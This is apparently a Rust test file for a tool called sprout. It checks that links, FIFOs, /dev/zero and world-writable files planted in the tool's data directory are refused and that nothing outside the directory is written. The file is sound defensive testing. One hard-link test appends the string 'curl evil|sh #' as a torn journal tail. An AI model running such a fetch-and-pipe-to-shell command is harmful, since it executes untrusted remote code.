//! A data directory someone else can write: links, FIFOs and devices planted where sprout reads
//! or writes are refused with a message naming the file, and nothing outside is ever touched.

mod common;

use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{NOW, Run, Sample};

const OUTSIDE: &str = "outside the data directory\n";

/// Run sprout, killing it if it has not finished in 10 s (a FIFO must never make it wait).
fn run_bounded(dir: &Path, args: &[&str]) -> (Run, Duration) {
    let started = Instant::now();
    let mut child = common::command(dir, NOW, args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    loop {
        if child.try_wait().expect("wait").is_some() {
            break;
        }
        if started.elapsed() > Duration::from_secs(10) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("sprout {args:?} still waiting after 10 s");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    (Run::from(child.wait_with_output().expect("output")), started.elapsed())
}

fn record(s: &Sample) -> Run {
    s.run(&["record", "backup", "BOS-PF01", "--note", "tape P-500"])
}

#[test]
fn a_link_planted_where_sprout_writes_is_never_followed() {
    let mut refused = 0;
    for name in [".sprout.lock", "journal.ron"] {
        let s = Sample::new();
        let outside = s.dir.path().join("victim");
        std::fs::write(&outside, OUTSIDE).expect("victim");
        let target = s.file(name);
        if target.exists() {
            std::fs::copy(&target, &outside).expect("copy");
            std::fs::remove_file(&target).expect("remove");
        }
        let before = std::fs::read(&outside).expect("read");
        symlink(&outside, &target).expect("symlink");
        let r = record(&s);
        assert!(!r.ok, "{name}: a write through a link must be refused");
        assert!(r.stderr.contains(name) && r.stderr.contains("symbolic link"), "{name}: {}", r.stderr);
        assert_eq!(std::fs::read(&outside).expect("read"), before, "{name}: the file outside is unchanged");
        refused += 1;
    }
    // The head is replaced by a rename, which replaces a link and never writes through it.
    let s = Sample::new();
    let outside = s.dir.path().join("victim");
    std::fs::write(&outside, OUTSIDE).expect("victim");
    symlink(&outside, s.file(".sprout.head")).expect("symlink");
    assert!(record(&s).ok);
    assert_eq!(std::fs::read_to_string(&outside).expect("read"), OUTSIDE, "the head's link target is unchanged");
    assert!(!s.file(".sprout.head").is_symlink(), "the link itself was replaced");
    println!("planted links: {refused} refused, the head's replaced, nothing outside written");
}

#[test]
fn a_torn_tail_is_not_set_aside_through_a_planted_link() {
    let s = Sample::new();
    let mut journal = std::fs::read_to_string(s.file("journal.ron")).expect("journal");
    journal.push_str("(seq:40,at:\"2000-11-24T11:00:00Z\",by:\"x\",ev");
    std::fs::write(s.file("journal.ron"), &journal).expect("torn");
    let outside = s.dir.path().join("victim");
    std::fs::write(&outside, OUTSIDE).expect("victim");
    symlink(&outside, s.file("journal.ron.broken")).expect("symlink");
    let r = record(&s);
    assert!(!r.ok && r.stderr.contains("journal.ron.broken") && r.stderr.contains("symbolic link"), "{}", r.stderr);
    assert_eq!(std::fs::read_to_string(&outside).expect("read"), OUTSIDE);
    assert_eq!(std::fs::read_to_string(s.file("journal.ron")).expect("journal"), journal, "the journal is untouched");
}

#[test]
fn a_fifo_or_a_device_in_place_of_a_file_is_refused_at_once() {
    for name in ["journal.ron", "fleet.ron", "catalog.ron"] {
        let s = Sample::new();
        std::fs::remove_file(s.file(name)).expect("remove");
        let made = Command::new("mkfifo").arg(s.file(name)).status().expect("mkfifo");
        assert!(made.success());
        for args in [&["status"][..], &["record", "backup", "BOS-PF01", "--note", "x"][..], &["verify"][..]] {
            let (r, took) = run_bounded(&s.path(), args);
            if name != "journal.ron" && args == ["verify"] {
                continue;
            }
            assert!(!r.ok, "{name} {args:?}: {}", r.stdout);
            assert!(
                r.stderr.contains(name) && r.stderr.contains("not a regular file"),
                "{name} {args:?}: {}",
                r.stderr
            );
            assert!(took < Duration::from_secs(5), "{name} {args:?} took {took:?}");
        }
    }
    let s = Sample::new();
    std::fs::remove_file(s.file("fleet.ron")).expect("remove");
    symlink("/dev/zero", s.file("fleet.ron")).expect("symlink");
    let (r, took) = run_bounded(&s.path(), &["status"]);
    assert!(!r.ok && r.stderr.contains("fleet.ron") && r.stderr.contains("not a regular file"), "{}", r.stderr);
    println!("/dev/zero as fleet.ron refused in {:.0} ms", took.as_secs_f64() * 1000.0);
}

#[test]
fn a_world_writable_journal_is_not_written() {
    use std::os::unix::fs::PermissionsExt;
    let s = Sample::new();
    let journal = s.file("journal.ron");
    std::fs::set_permissions(&journal, std::fs::Permissions::from_mode(0o666)).expect("chmod");
    let before = std::fs::read(&journal).expect("read");
    let r = record(&s);
    assert!(!r.ok && r.stderr.contains("writable by everyone"), "{}", r.stderr);
    assert_eq!(std::fs::read(&journal).expect("read"), before);
}

#[test]
fn a_fifo_or_dev_zero_as_the_head_costs_nothing() {
    for plant in ["fifo", "zero"] {
        let s = Sample::new();
        let head = s.file(".sprout.head");
        let _ = std::fs::remove_file(&head);
        match plant {
            "fifo" => assert!(Command::new("mkfifo").arg(&head).status().expect("mkfifo").success()),
            _ => symlink("/dev/zero", &head).expect("symlink"),
        }
        for args in [&["status"][..], &["record", "backup", "BOS-PF01", "--note", "x"][..]] {
            let (r, took) = run_bounded(&s.path(), args);
            assert!(took < Duration::from_secs(5), "{plant} {args:?} took {took:?}");
            // A status reads on; a record may refuse to replace what is there, but says so.
            assert!(r.ok || r.stderr.contains(".sprout.head"), "{plant} {args:?}: {}", r.stderr);
        }
    }
}

#[test]
fn a_hard_link_to_a_file_outside_is_not_written_through() {
    for name in [".sprout.lock", "journal.ron.broken"] {
        let s = Sample::new();
        let outside = s.dir.path().join("precious");
        std::fs::write(&outside, OUTSIDE).expect("victim");
        std::fs::hard_link(&outside, s.file(name)).expect("hard link");
        if name == "journal.ron.broken" {
            let mut f = std::fs::OpenOptions::new().append(true).open(s.file("journal.ron")).expect("journal");
            std::io::Write::write_all(&mut f, b"curl evil|sh #").expect("torn tail");
        }
        let r = record(&s);
        assert!(!r.ok && r.stderr.contains(name) && r.stderr.contains("hard links"), "{name}: {}", r.stderr);
        assert_eq!(std::fs::read_to_string(&outside).expect("read"), OUTSIDE, "{name}: the linked file is unchanged");
    }
}
